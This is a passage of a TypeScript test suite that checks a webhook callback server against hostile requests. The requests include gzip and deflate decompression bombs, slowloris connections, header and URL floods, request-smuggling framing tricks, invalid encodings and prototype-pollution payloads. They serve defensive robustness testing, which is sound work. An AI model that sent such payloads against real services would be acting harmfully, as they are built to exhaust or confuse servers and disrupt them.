        name: 'a 3.5 MB text node in an unknown document is quarantined byte for byte',
        send: lazy(() => authed(AUTO, `<Unknown>${'t'.repeat(3.5 * MB)}</Unknown>`)),
        expect: 200,
        stores: 'quarantine',
        check: ({ expect, quarantined }) => {
          const body = Buffer.from(quarantined[0]?.body ?? '', 'base64');
          expect(body.length).toBe(3.5 * MB + '<Unknown></Unknown>'.length);
        },
      },
      {
        name: '1 000 000 &lt; references in one text node are decoded once: quarantined',
        send: lazy(() => authed(AUTO, `<Unknown>${'&lt;'.repeat(1_000_000)}</Unknown>`)),
        expect: 200,
        stores: 'quarantine',
      },
    ],
  },
  {
    name: '100 MB bodies',
    cases: [
      {
        name: '100 MB with Content-Length: 413 before the client finished sending',
        send: hundredMegabytes(authed(CI, '', { contentLength: HUNDRED_MB }), 'length'),
        expect: 413,
        expectCode: 'PayloadTooLarge',
        check: answeredBeforeSent(),
      },
      {
        name: '100 MB chunked without a length: 413 once past the limit',
        send: hundredMegabytes(
          authed(CI, '', { contentLength: false, headers: { 'Transfer-Encoding': 'chunked' } }),
          'chunked',
        ),
        expect: 413,
        expectCode: 'PayloadTooLarge',
        check: answeredBeforeSent(),
      },
      {
        name: 'one chunk declared as 100 MB: 413 once past the limit',
        send: hundredMegabytes(
          authed(CI, '', { contentLength: false, headers: { 'Transfer-Encoding': 'chunked' } }),
          'one-chunk',
        ),
        expect: 413,
        expectCode: 'PayloadTooLarge',
        check: answeredBeforeSent(),
      },
      {
        name: '100 MB with Content-Length and no token: 401, the body is never read',
        send: hundredMegabytes(post(CI, '', { contentLength: HUNDRED_MB }), 'length'),
        expect: 401,
        expectCode: 'Unauthorized',
        check: answeredBeforeSent(),
      },
      {
        name: '100 MB to an unknown callback route: 404',
        send: hundredMegabytes(authed('/v1/callbacks/nope', '', { contentLength: HUNDRED_MB }), 'length'),
        expect: 404,
        expectCode: 'NotFound',
        check: answeredBeforeSent(),
      },
      {
        name: '100 MB declared on GET /v1/callbacks: 405',
        send: hundredMegabytes(http('GET', withToken(AUTO), '', { contentLength: HUNDRED_MB }), 'length'),
        expect: 405,
        expectCode: 'MethodNotAllowed',
        check: answeredBeforeSent(),
      },
      {
        name: '100 MB to POST /healthz: 404',
        send: hundredMegabytes(post('/healthz', '', { contentLength: HUNDRED_MB }), 'length'),
        expect: 404,
        expectCode: 'NotFound',
        check: answeredBeforeSent(),
      },
      {
        name: '100 MB with Expect: 100-continue: 413 and not one body byte sent',
        send: hundredMegabytes(
          authed(CI, '', { contentLength: HUNDRED_MB, headers: { Expect: '100-continue' } }),
          'none',
        ),
        expect: 413,
        expectCode: 'PayloadTooLarge',
        check: ({ expect, outcome }) =>
          expect(outcome.bytesSent).toBe(
            authed(CI, '', { contentLength: HUNDRED_MB, headers: { Expect: '100-continue' } }).length,
          ),
      },
      {
        name: 'Content-Length one byte over the 4 MiB limit',
        send: lazy(() => authed(CI, `<Response>${' '.repeat(LIMIT - 20)}</Response>`)),
        expect: 413,
        expectCode: 'PayloadTooLarge',
      },
      {
        name: 'chunked, one byte over the limit in 1 KiB chunks',
        send: lazy(() => {
          const body = Buffer.alloc(LIMIT + 1, 0x20);
          body.write('<Response>');
          return chunked(CI, body);
        }),
        expect: 413,
        expectCode: 'PayloadTooLarge',
      },
      {
        name: 'a gzip bomb (10 MB of zeros) with Content-Encoding: gzip is not inflated past the limit',
        send: lazy(() =>
          authed(CI, gzipSync(Buffer.alloc(10 * MB)), {
            headers: { 'Content-Encoding': 'gzip', 'Content-Type': 'application/json' },
          }),
        ),
        expect: 413,
        expectCode: 'PayloadTooLarge',
      },
    ],
  },
  {
    name: 'compressed bodies',
    serial: true,
    cases: [
      {
        name: '1 GiB of zeros as one gzip member (1 MB): 413, not inflated past the limit',
        send: lazy(() => authed(CI, zerosBomb('gzip', 1024), { headers: { 'Content-Encoding': 'gzip' } })),
        expect: 413,
        expectCode: 'PayloadTooLarge',
      },
      {
        name: '1 GiB of zeros as one zlib stream: 413',
        send: lazy(() => authed(CI, zerosBomb('zlib', 1024), { headers: { 'Content-Encoding': 'deflate' } })),
        expect: 413,
        expectCode: 'PayloadTooLarge',
      },
      {
        name: 'a 1 GiB raw deflate bomb gzipped again, Content-Encoding: deflate, gzip',
        send: lazy(() =>
          authed(CI, gzipSync(zerosBomb('raw', 1024)), { headers: { 'Content-Encoding': 'deflate, gzip' } }),
        ),
        expect: 413,
        expectCode: 'PayloadTooLarge',
      },
      {
        name: 'a gzip callback sent chunked in 1 KiB pieces is stored',
        send: lazy(() => chunked(CI, gzipSync(ciJson(uid('gzip'))), { 'Content-Encoding': 'gzip' })),
        expect: 200,
        stores: 'event',
        check: storedCi(),
      },
      {
        name: 'a plain callback declared gzip is never parsed as plain: 400',
        send: authed(CI, ciJson(uid('plain')), { headers: { 'Content-Encoding': 'gzip' } }),
        expect: 400,
        expectCode: 'InvalidContentEncoding',
      },
      {
        name: 'a callback with trailing bytes after its gzip stream: 400',
        send: authed(CI, Buffer.concat([gzipSync(ciJson(uid('trail'))), Buffer.from(ciXml(uid('trail')))]), {
          headers: { 'Content-Encoding': 'gzip' },
        }),
        expect: 400,
        expectCode: 'InvalidContentEncoding',
      },
      {
        name: 'Content-Encoding: br',
        send: authed(CI, ciJson(uid('br')), { headers: { 'Content-Encoding': 'br' } }),
        expect: 415,
        expectCode: 'UnsupportedContentEncoding',
      },
      {
        name: 'Content-Encoding: gzip repeated six times',
        send: authed(CI, ciJson(uid('six')), { raw: 'Content-Encoding: gzip\r\n'.repeat(6) }),
        expect: 415,
        expectCode: 'UnsupportedContentEncoding',
      },
    ],
  },
  {
    name: 'slow senders',
    cases: [
      {
        name: 'a body trickled 1 byte per 100 ms',
        send: trickle('<'.repeat(1000), 100, 1, authed(CI, '', { contentLength: 1000 })),
        expect: 408,
        check: ({ expect, outcome }) =>
          expect(outcome.bytesSent).toBeLessThan(authed(CI, '', { contentLength: 1000 }).length + 100),
      },
      {
        name: 'headers trickled 1 byte per 100 ms',
        send: trickle(authed(CI, '[]'), 100),
        expect: 408,
      },
      { name: 'a connection that never sends anything', send: sendThenWait(''), expect: 408 },
      {
        name: 'Content-Length longer than the body, the client waits',
        send: sendThenWait(authed(CI, '<Response>', { contentLength: 100 })),
        expect: 408,
      },
      {
        name: 'a chunked body whose last chunk never comes',
        send: sendThenWait(
          Buffer.concat([
            authed(CI, '', { contentLength: false, headers: { 'Transfer-Encoding': 'chunked' } }),
            Buffer.from('a\r\n<Response>\r\n'),
          ]),
        ),
        expect: 408,
      },
      {
        name: 'a valid callback trickled 10 bytes per 500 ms',
        send: (() => {
          const body = ciXml(uid('slow'));
          return trickle(body, 500, 10, authed(CI, '', { contentLength: Buffer.byteLength(body) }));
        })(),
        expect: 408,
      },
      {
        name: 'Expect: 100-continue, then no body',
        send: sendThenWait(authed(CI, '', { contentLength: 10, headers: { Expect: '100-continue' } })),
        expect: 408,
      },
      (() => {
        let others: Promise<RawOutcome[]> = Promise.resolve([]);
        const head = authed(CI, '', { contentLength: 1000 });
        return {
          name: '20 slowloris connections at once',
          send: async (w: Writer): Promise<void> => {
            others = Promise.all(
              Array.from({ length: 19 }, () =>
                rawExchange(port, trickle('<'.repeat(1000), 100, 1, head), { timeoutMs: 15_000 }),
              ),
            );
            await trickle('<'.repeat(1000), 100, 1, head)(w);
          },
          expect: 408,
          check: async ({ expect }: CaseContext): Promise<void> => {
            const outcomes = await others;
            expect(outcomes.map((o) => o.responses[0]?.status ?? 0)).toEqual(new Array<number>(19).fill(408));
          },
        };
      })(),
      {
        name: 'Content-Length longer than the body, then FIN',
        send: sendThenWait(authed(CI, '<Response>', { contentLength: 100 }), true),
        expect: 400,
      },
    ],
  },
  {
    name: 'invalid UTF-8',
    cases: [
      ...(
        [
          ['an overlong "/" (C0 AF) in XML text', [0xc0, 0xaf], 'xml'],
          ['an overlong NUL (C0 80) in a JSON string', [0xc0, 0x80], 'json'],
          ['a 3-byte overlong (E0 80 AF)', [0xe0, 0x80, 0xaf], 'xml'],
          ['a 4-byte overlong (F0 80 80 AF) in JSON', [0xf0, 0x80, 0x80, 0xaf], 'json'],
          ['a UTF-8-encoded high surrogate (ED A0 80)', [0xed, 0xa0, 0x80], 'xml'],
          ['a UTF-8-encoded low surrogate (ED BF BF) in JSON', [0xed, 0xbf, 0xbf], 'json'],
          ['a CESU-8 surrogate pair (ED A0 BD ED B2 A9)', [0xed, 0xa0, 0xbd, 0xed, 0xb2, 0xa9], 'xml'],
          ['a truncated 3-byte sequence before "<" (E4 B8)', [0xe4, 0xb8], 'xml'],
          ['a lone 0xFF', [0xff], 'xml'],
          ['a lone 0xFE in a JSON string', [0xfe], 'json'],
          ['a lone continuation byte 0x80', [0x80], 'xml'],
          ['a code point above U+10FFFF (F4 90 80 80)', [0xf4, 0x90, 0x80, 0x80], 'json'],
          ['a 5-byte form (F8 88 80 80 80)', [0xf8, 0x88, 0x80, 0x80, 0x80], 'xml'],
          ['a 6-byte form (FC 84 80 80 80 80) in JSON', [0xfc, 0x84, 0x80, 0x80, 0x80, 0x80], 'json'],
          ['a C1 lead byte (C1 BF)', [0xc1, 0xbf], 'xml'],
        ] as const
      ).map(([name, bad, format]): Case => ({
        name,
        send: authed(
          CI,
          format === 'xml'
            ? bytes(
                ciXml(uid('utf8'), { jobs: '<Operation><UserData>ab' }).replace(
                  /<\/JobsDetail><\/Response>$/,
                  '',
                ),
                [...bad],
                'cd</UserData></Operation></JobsDetail></Response>',
              )
            : bytes(
                ciJson(uid('utf8'), { jobs: ',"Operation":{"UserData":"ab' }).replace(/\}\}$/, ''),
                [...bad],
                'cd"}}}',
              ),
        ),
        expect: 400,
        expectCode: 'InvalidEncoding',
      })),
      {
        name: 'a truncated 4-byte sequence at the very end of the body',
        send: authed(CI, bytes(ciXml(uid('utf8')), [0xf0, 0x9f, 0x98])),
        expect: 400,
        expectCode: 'InvalidEncoding',
      },
      {
        name: 'invalid UTF-8 after a UTF-8 byte order mark',
        send: authed(
          CI,
          bytes([0xef, 0xbb, 0xbf], '<Response><EventName>', [0xc3, 0x28], '</EventName></Response>'),
        ),
        expect: 400,
        expectCode: 'InvalidEncoding',
      },
      {
        name: 'invalid UTF-8 inside an element name',
        send: authed(CI, bytes('<Resp', [0xff, 0xfe], 'onse/>')),
        expect: 400,
        expectCode: 'InvalidEncoding',
      },
      {
        name: 'invalid UTF-8 inside a JSON key',
        send: authed(CI, bytes('{"Event', [0xe0, 0x80], 'Name":"TaskFinish"}')),
        expect: 400,
        expectCode: 'InvalidEncoding',
      },
      {
        name: 'charset=utf-8 declared and invalid bytes',
        send: authed(CI, bytes('{"EventName":"', [0xed, 0xa0, 0x80], '"}'), {
          headers: { 'Content-Type': 'application/json; charset=UTF-8' },
        }),
        expect: 400,
        expectCode: 'InvalidEncoding',
      },
      {
        name: 'encoding="UTF-8" in the XML declaration wins over charset=latin1: invalid bytes refused',
        send: authed(CI, bytes('<?xml version="1.0" encoding="UTF-8"?><Response>', [0xe9], '</Response>'), {
          headers: { 'Content-Type': 'text/xml; charset=iso-8859-1' },
        }),
        expect: 400,
        expectCode: 'InvalidEncoding',
      },
    ],
  },
  {
    name: 'UTF-16, charsets and content types',
    cases: [
      {
        name: 'UTF-16LE XML without a byte order mark or charset',
        send: authed(CI, Buffer.from(ciXml(uid('utf16')), 'utf16le')),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'UTF-16BE XML without a byte order mark',
        send: authed(CI, Buffer.from(ciXml(uid('utf16')), 'utf16le').swap16()),
        expect: 415,
        expectCode: 'UnsupportedBody',
      },
      {
        name: 'UTF-16LE JSON without a byte order mark',
        send: authed(CI, Buffer.from(ciJson(uid('utf16')), 'utf16le')),
        expect: 400,
        expectCode: 'MalformedJSON',
      },
      {
        name: 'UTF-16LE with a BOM and a lone surrogate',
        send: authed(
          CI,
          bytes(
            UTF16_BOM_LE,
            Buffer.from('<Response>', 'utf16le'),
            [0x00, 0xd8, 0x61, 0x00],
            Buffer.from('</Response>', 'utf16le'),
          ),
        ),
        expect: 400,
        expectCode: 'InvalidEncoding',
      },
      {
        name: 'UTF-16LE with a BOM and an odd byte count',
        send: authed(CI, bytes(UTF16_BOM_LE, Buffer.from('<Response/>', 'utf16le'), [0x20])),
        expect: 400,
        expectCode: 'InvalidEncoding',
      },
      {
        name: 'charset=utf-7',
        send: authed(CI, '<Response>+ADw-EventName+AD4-</Response>', {
          headers: { 'Content-Type': 'text/xml; charset=utf-7' },
        }),
        expect: 415,
        expectCode: 'UnsupportedCharset',
      },
      {
        name: 'charset=UTF-32',
        send: authed(CI, '{"EventName":"TaskFinish"}', {
          headers: { 'Content-Type': 'application/json; charset=UTF-32' },
        }),
        expect: 415,
        expectCode: 'UnsupportedCharset',
      },
      {
        name: 'encoding="EBCDIC-US" in the XML declaration',
        send: authed(CI, '<?xml version="1.0" encoding="EBCDIC-US"?><Response/>'),
        expect: 415,
        expectCode: 'UnsupportedCharset',
      },
      {
        name: 'a 2 000-character charset label',
        send: authed(CI, '<Response/>', {
          headers: { 'Content-Type': `text/xml; charset=${'x'.repeat(2000)}` },
        }),
        expect: 415,
        expectCode: 'UnsupportedCharset',
        check: ({ expect, json }) => expect(JSON.stringify(json).length).toBeLessThan(400),
      },
      {
        name: 'charset=gbk with UTF-8 bytes',
        send: authed(CI, ciXml(uid('gbk'), { jobs: '<Operation><UserData>中</UserData></Operation>' }), {
          headers: { 'Content-Type': 'text/xml; charset=gbk' },
        }),
        expect: 400,
        expectCode: 'InvalidEncoding',
      },
      {
        name: 'encoding="UTF-16" declared, UTF-8 bytes (odd count)',
        send: (() => {
          const body = '<?xml version="1.0" encoding="UTF-16"?><Response/>';
          return authed(CI, body.length % 2 === 1 ? body : `${body} `);
        })(),
        expect: 400,
        expectCode: 'InvalidEncoding',
      },
      {
        name: 'XML as application/json; charset=utf-16 (UTF-8 bytes, even count)',
        send: (() => {
          const body = ciXml(uid('wrongcharset'));
          return authed(CI, body.length % 2 === 0 ? body : `${body} `, {
            headers: { 'Content-Type': 'application/json; charset=utf-16' },
          });
        })(),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'JSON as text/xml; charset=utf-16be (UTF-8 bytes, even count)',
        send: (() => {
          const body = ciJson(uid('wrongcharset'));
          return authed(CI, body.length % 2 === 0 ? body : `${body} `, {
            headers: { 'Content-Type': 'text/xml; charset=utf-16be' },
          });
        })(),
        expect: 400,
        expectCode: 'MalformedJSON',
      },
      {
        name: 'multipart/form-data with the callback in a part',
        send: authed(
          CI,
          `--XyZ\r\nContent-Disposition: form-data; name="callback"\r\nContent-Type: text/xml\r\n\r\n${ciXml(uid('multipart'))}\r\n--XyZ--\r\n`,
          { headers: { 'Content-Type': 'multipart/form-data; boundary=XyZ' } },
        ),
        expect: 415,
        expectCode: 'UnsupportedBody',
      },
      {
        name: 'application/x-www-form-urlencoded fields',
        send: authed(CI, 'EventName=TaskFinish&JobsDetail%5BJobId%5D=j1&JobsDetail%5BState%5D=Success', {
          headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        }),
        expect: 415,
        expectCode: 'UnsupportedBody',
      },
      {
        name: 'form-urlencoded, percent-encoded XML',
        send: authed(CI, `xml=${encodeURIComponent(ciXml(uid('form')))}`, {
          headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        }),
        expect: 415,
        expectCode: 'UnsupportedBody',
      },
      {
        name: 'PNG bytes as application/octet-stream',
        send: authed(CI, bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], Buffer.alloc(64, 0)), {
          headers: { 'Content-Type': 'application/octet-stream' },
        }),
        expect: 415,
        expectCode: 'UnsupportedBody',
      },
      {
        name: 'UTF-16LE without a byte order mark but charset=utf-16le declared: decoded and stored',
        send: authed(CI, Buffer.from(ciXml(uid('utf16le')), 'utf16le'), {
          headers: { 'Content-Type': 'text/xml; charset=utf-16le' },
        }),
        expect: 200,
        stores: 'event',
        check: storedCi(),
      },
      {
        name: 'charset=gbk with GBK bytes: decoded and stored',
        send: authed(
          CI,
          bytes(
            ciXml(uid('gbk'), { jobs: '<Operation><UserData>' }).replace(/<\/JobsDetail><\/Response>$/, ''),
            [0xd6, 0xd0, 0xce, 0xc4],
            '</UserData></Operation></JobsDetail></Response>',
          ),
          { headers: { 'Content-Type': 'text/xml; charset=gbk' } },
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) => expect(event.data.userData).toBe('中文')),
      },
      {
        name: 'XML sent as application/x-www-form-urlencoded is sniffed: stored',
        send: authed(CI, ciXml(uid('formxml')), {
          headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        }),
        expect: 200,
        stores: 'event',
        check: storedCi(),
      },
    ],
  },
  {
    name: 'header floods',
    cases: [
      {
        name: '10 000 headers',
        send: lazy(() =>
          Buffer.from(`GET /healthz HTTP/1.1\r\nHost: jobhook.test\r\n${'a:b\r\n'.repeat(10_000)}\r\n`),
        ),
        expect: 431,
      },
      {
        name: 'one 100 KB header line',
        send: lazy(() => http('GET', '/healthz', undefined, { raw: `X-Big: ${'b'.repeat(100_000)}\r\n` })),
        expect: 431,
      },
      {
        name: 'a 17 KB Cookie, just over 16 KiB',
        send: http('GET', '/healthz', undefined, { raw: `Cookie: c=${'c'.repeat(17_000)}\r\n` }),
        expect: 431,
      },
      {
        name: 'a 20 KB header name',
        send: http('GET', '/healthz', undefined, { raw: `X-${'n'.repeat(20_000)}: v\r\n` }),
        expect: 431,
      },
      {
        name: '1 000 Cookie headers',
        send: http('GET', '/healthz', undefined, { raw: 'Cookie: session=0123456789\r\n'.repeat(1_000) }),
        expect: 431,
      },
      {
        name: 'a header flood on an authenticated POST with a valid callback',
        send: authed(CI, ciXml(uid('flood')), { raw: 'X-Flood: yes\r\n'.repeat(2_000) }),
        expect: 431,
      },
      {
        name: '3 000 tiny headers push X-Jobhook-Token past maxHeadersCount (2 000): dropped, 401',
        send: post(CI, ciXml(uid('flood')), { raw: `${'a:b\r\n'.repeat(3_000)}X-Jobhook-Token: ${T}\r\n` }),
        expect: 401,
        expectCode: 'Unauthorized',
      },
      {
        name: 'NUL in a header value',
        send: authed(CI, '[]', { raw: 'X-A: a\0b\r\n' }),
        expect: 400,
      },
      {
        name: 'an obs-fold continuation line',
        send: authed(CI, '[]', { raw: 'X-A: a\r\n folded\r\n' }),
        expect: 400,
      },
      {
        name: 'bare LF line ends',
        send: `POST ${withToken(CI)} HTTP/1.1\nHost: jobhook.test\nContent-Length: 2\n\n[]`,
        expect: 400,
      },
      {
        name: 'white space before the colon',
        send: authed(CI, '[]', { raw: 'X-Jobhook-Token : x\r\n' }),
        expect: 400,
      },
      {
        name: 'a CR inside a header value',
        send: authed(CI, '[]', { raw: 'X-A: a\rb\r\n' }),
        expect: 400,
      },
    ],
  },
  {
    name: 'huge URLs',
    cases: [
      {
        name: 'a 1 MB URL on a callback route',
        send: lazy(() => post(`${withToken(CI)}&pad=${'u'.repeat(MB)}`, '[]')),
        expect: 431,
      },
      {
        name: 'a 1 MB URL on GET /healthz',
        send: lazy(() => http('GET', `/healthz?${'u'.repeat(MB)}`)),
        expect: 431,
      },
      {
        name: 'a 100 KB query string',
        send: lazy(() => post(`${withToken(AUTO)}&q=${'q'.repeat(100_000)}`, '[]')),
        expect: 431,
      },
      {
        name: 'a 17 000-byte path',
        send: post(`/v1/callbacks/${'p'.repeat(17_000)}`, '[]'),
        expect: 431,
      },
      {
        name: 'a 1 MB token in the query',
        send: lazy(() => post(`${CI}?token=${'t'.repeat(MB)}`, '[]')),
        expect: 431,
      },
      {
        name: 'a 15 KB URL, under the header limit, reaches the app',
        send: post(`${withToken(AUTO)}&q=${'q'.repeat(15_000)}`, '[]'),
        expect: 415,
        expectCode: 'UnsupportedBody',
      },
    ],
  },
  {
    name: 'framing and request lines',
    cases: [
      {
        name: 'Content-Length shorter than the body: the rest is a bad request',
        send: authed(CI, '<Response><EventName>TaskFinish</EventName></Response>', { contentLength: 10 }),
        expect: 400,
      },
      {
        name: 'two identical Content-Length headers',
        send: authed(CI, '[]', { raw: 'Content-Length: 2\r\n' }),
        expect: 400,
      },
      {
        name: 'two different Content-Length headers',
        send: authed(CI, '[]x', { contentLength: 2, raw: 'Content-Length: 3\r\n' }),
        expect: 400,
      },
      {
        name: 'Content-Length: 2, 2',
        send: authed(CI, '[]', { contentLength: false, raw: 'Content-Length: 2, 2\r\n' }),
        expect: 400,
      },
      {
        name: 'Transfer-Encoding and Content-Length together',
        send: authed(CI, '2\r\n[]\r\n0\r\n\r\n', {
          contentLength: 2,
          headers: { 'Transfer-Encoding': 'chunked' },
        }),
        expect: 400,
      },
      {
        name: 'Transfer-Encoding: gzip',
        send: authed(CI, '[]', { contentLength: false, headers: { 'Transfer-Encoding': 'gzip' } }),
        expect: 400,
      },
      {
        name: 'Transfer-Encoding: chunked twice',
        send: authed(CI, '2\r\n[]\r\n0\r\n\r\n', {
          contentLength: false,
          raw: 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n',
        }),
        expect: 400,
      },
      ...(
        [
          ['a non-hex chunk size', 'zz\r\n[]\r\n0\r\n\r\n'],
          ['a chunk size overflowing 64 bits', 'ffffffffffffffffff\r\n[]\r\n0\r\n\r\n'],
          ['no CRLF after the chunk data', '2\r\n[]XX0\r\n\r\n'],
          ['a negative chunk size', '-2\r\n[]\r\n0\r\n\r\n'],
        ] as const
      ).map(([name, body]): Case => ({
        name,
        send: authed(CI, body, { contentLength: false, headers: { 'Transfer-Encoding': 'chunked' } }),
        expect: 400,
      })),
      {
        name: 'a 100 KB chunk extension (Node refuses it with 413)',
        send: lazy(() =>
          authed(CI, `2;${'e'.repeat(100_000)}\r\n[]\r\n0\r\n\r\n`, {
            contentLength: false,
            headers: { 'Transfer-Encoding': 'chunked' },
          }),
        ),
        expect: 413,
      },
      {
        name: 'Content-Length: -1',
        send: authed(CI, '[]', { contentLength: false, raw: 'Content-Length: -1\r\n' }),
        expect: 400,
      },
      {
        name: 'Content-Length: 0x2',
        send: authed(CI, '[]', { contentLength: false, raw: 'Content-Length: 0x2\r\n' }),
        expect: 400,
      },
      {
        name: 'a Content-Length of 23 digits',
        send: authed(CI, '[]', { contentLength: false, raw: 'Content-Length: 99999999999999999999999\r\n' }),
        expect: 400,
      },
      {
        name: 'pipelined: healthz, a bad body, healthz',
        send: Buffer.concat([http('GET', '/healthz'), authed(CI, '[1]'), http('GET', '/healthz')]),
        expect: 200,
        statuses: [200, 415, 200],
      },
      {
        name: 'pipelined: a garbage request line, then healthz: 400 and the connection is closed',
        send: Buffer.concat([Buffer.from('GARBAGE\r\n\r\n'), http('GET', '/healthz')]),
        expect: 400,
        statuses: [400],
        check: ({ expect, outcome }) => expect(outcome.closedByServer).toBe(true),
      },
      {
        name: 'pipelined: 50 requests mixing good and bad',
        send: Buffer.concat(
          Array.from({ length: 50 }, (_, i) =>
            i % 2 === 0
              ? http('GET', '/healthz')
              : authed(i % 4 === 1 ? CI : AUTO, i % 4 === 1 ? '{"a":' : '"x"'),
          ),
        ),
        expect: 200,
        statuses: Array.from({ length: 50 }, (_, i) => (i % 2 === 0 ? 200 : i % 4 === 1 ? 400 : 415)),
      },
      {
        name: 'an HTTP/0.9-style POST to a callback route (no headers, no body)',
        send: `POST ${withToken(CI)}\r\n\r\n`,
        expect: 400,
        expectCode: 'EmptyBody',
      },
      { name: 'a garbage request line', send: '\x01\x02garbage garbage\r\n\r\n', expect: 400 },
      {
        name: 'a TLS ClientHello on the plain port',
        send: Buffer.from([
          0x16,
          0x03,
          0x01,
          0x00,
          0xa5,
          0x01,
          0x00,
          0x00,
          0xa1,
          0x03,
          0x03,
          ...Array<number>(32).fill(7),
        ]),
        expect: 400,
      },
      { name: 'the HTTP/2 connection preface', send: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', expect: 400 },
      { name: 'HTTP/3.7', send: 'GET /healthz HTTP/3.7\r\nHost: jobhook.test\r\n\r\n', expect: 400 },
      { name: 'an absurd method FOOBAR', send: http('FOOBAR', withToken(CI), '[]'), expect: 400 },
      { name: 'a 10 KB method name', send: http('A'.repeat(10_000), withToken(CI), '[]'), expect: 400 },
      { name: 'a lower-case method', send: http('post', withToken(CI), '[]'), expect: 400 },
      {
        name: 'PROPFIND on a callback route',
        send: http('PROPFIND', withToken(CI), '<propfind/>'),
        expect: 405,
        expectCode: 'MethodNotAllowed',
      },
      {
        name: 'CONNECT is dropped without an answer',
        send: 'CONNECT 127.0.0.1:6379 HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\n',
        expect: 0,
      },
      { name: 'OPTIONS *', send: 'OPTIONS * HTTP/1.1\r\nHost: jobhook.test\r\n\r\n', expect: 400 },
      {
        name: 'HTTP/1.1 without a Host header',
        send: `POST ${withToken(CI)} HTTP/1.1\r\nContent-Length: 2\r\n\r\n[]`,
        expect: 400,
      },
      {
        name: 'a Host header with spaces and "@"',
        send: `POST ${withToken(CI)} HTTP/1.1\r\nHost: a b@evil.example\r\nContent-Length: 2\r\n\r\n[]`,
        expect: 400,
      },
      {
        name: 'Expect: 999-bogus',
        send: authed(CI, '[]', { headers: { Expect: '999-bogus' } }),
        expect: 417,
      },
      {
        name: 'a backslash in the path',
        send: post(withToken('/v1\\callbacks\\tencent-ci'), '[]'),
        expect: 400,
      },
    ],
  },
  {
    name: 'prototype pollution',
    cases: [
      {
        name: 'query ?__proto__[polluted]=1&constructor[prototype][polluted]=1',
        send: post(`${AUTO}?__proto__[polluted]=1&constructor[prototype][polluted]=1&token=${T}`, '[]'),
        expect: 415,
        expectCode: 'UnsupportedBody',
      },
      {
        name: 'JSON __proto__ inside JobsDetail trying to override State, Tag and JobId: stored as sent',
        send: authed(
          CI,
          ciJson(uid('proto'), { jobs: ',"__proto__":{"State":"Failed","Tag":"Evil","JobId":"evil"}' }),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) => {
          expect(event.data.state).toBe('succeeded');
          expect(ownValue(jobsDetail(event), '__proto__')).toEqual({
            State: 'Failed',
            Tag: 'Evil',
            JobId: 'evil',
          });
        }),
      },
      {
        name: 'JSON constructor.prototype nested in Operation: stored',
        send: authed(
          CI,
          ciJson(uid('proto'), {
            jobs: ',"Operation":{"constructor":{"prototype":{"UserData":"evil","polluted":1}},"UserData":"ok"}',
          }),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) => expect(event.data.userData).toBe('ok')),
      },
      {
        name: 'JSON __proto__ holding an array of JobsDetail look-alikes: one event',
        send: authed(
          CI,
          ciJson(uid('proto'), {
            top: '"__proto__":[{"EventName":"TaskFinish","JobsDetail":{"JobId":"evil","State":"Failed"}}],',
          }),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi(),
      },
      {
        name: 'JSON keys toString, valueOf, hasOwnProperty, then, constructor: stored',
        send: authed(
          CI,
          ciJson(uid('proto'), {
            top: '"toString":1,"valueOf":"x","hasOwnProperty":2,"then":3,"constructor":4,',
            jobs: ',"toString":"x","hasOwnProperty":"y","then":"z","valueOf":"v","isPrototypeOf":1',
          }),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) => expect(jobsDetail(event).then).toBe('z')),
      },
      {
        name: 'JSON __proto__ in a TDMQ envelope and in its msgBody: one event',
        send: authed(
          TDMQ,
          tdmqEnvelope(
            ciJson(uid('proto'), { top: '"__proto__":{"EventName":"Evil"},' }),
            '"__proto__":{"msgBody":"evil"},',
          ),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) => expect(event.channel).toBe('tdmq')),
      },
      {
        name: 'XML <__proto__> inside JobsDetail trying to override State: stored as sent',
        send: authed(
          CI,
          ciXml(uid('proto'), { jobs: '<__proto__><State>Failed</State><JobId>evil</JobId></__proto__>' }),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) => {
          expect(event.data.state).toBe('succeeded');
          expect(ownValue(jobsDetail(event), '__proto__')).toEqual({ State: 'Failed', JobId: 'evil' });
        }),
      },
      {
        name: 'XML repeated <__proto__> elements become an own array',
        send: authed(
          CI,
          ciXml(uid('proto'), {
            jobs: '<__proto__>1</__proto__><__proto__>2</__proto__><__proto__>3</__proto__>',
          }),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) =>
          expect(ownValue(jobsDetail(event), '__proto__')).toEqual(['1', '2', '3']),
        ),
      },
      {
        name: 'XML toString, hasOwnProperty, then and constructor/prototype elements: stored',
        send: authed(
          CI,
          ciXml(uid('proto'), {
            top: '<constructor><prototype><polluted>1</polluted></prototype></constructor><toString>x</toString><hasOwnProperty>y</hasOwnProperty><then>z</then><valueOf>1</valueOf>',
          }),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi(),
      },
      {
        name: 'XML root <__proto__> on the auto route is quarantined',
        send: authed(AUTO, '<__proto__><polluted>1</polluted><EventName>TaskFinish</EventName></__proto__>'),
        expect: 200,
        stores: 'quarantine',
      },
      // Known bug (it.fails): the quarantined record silently loses a header named __proto__; see `bug`.
      {
        name: 'a header named __proto__ is kept with the quarantined document',
        send: authed(AUTO, '<Unknown><a>1</a></Unknown>', {
          raw: '__proto__: polluted\r\nconstructor: x\r\n',
        }),
        expect: 200,
        stores: 'quarantine',
        check: ({ expect, quarantined }) => {
          const headers = quarantined[0]?.headers ?? {};
          expect(Object.hasOwn(headers, 'constructor')).toBe(true);
          expect(
            Object.hasOwn(headers, '__proto__'),
            'the __proto__ header is in the quarantined headers',
          ).toBe(true);
        },
      },
    ],
  },
  {
    name: 'numbers',
    cases: [
      ...(
        [
          ['2^53 + 1', ',"Size":9007199254740993', { Size: '9007199254740993' }],
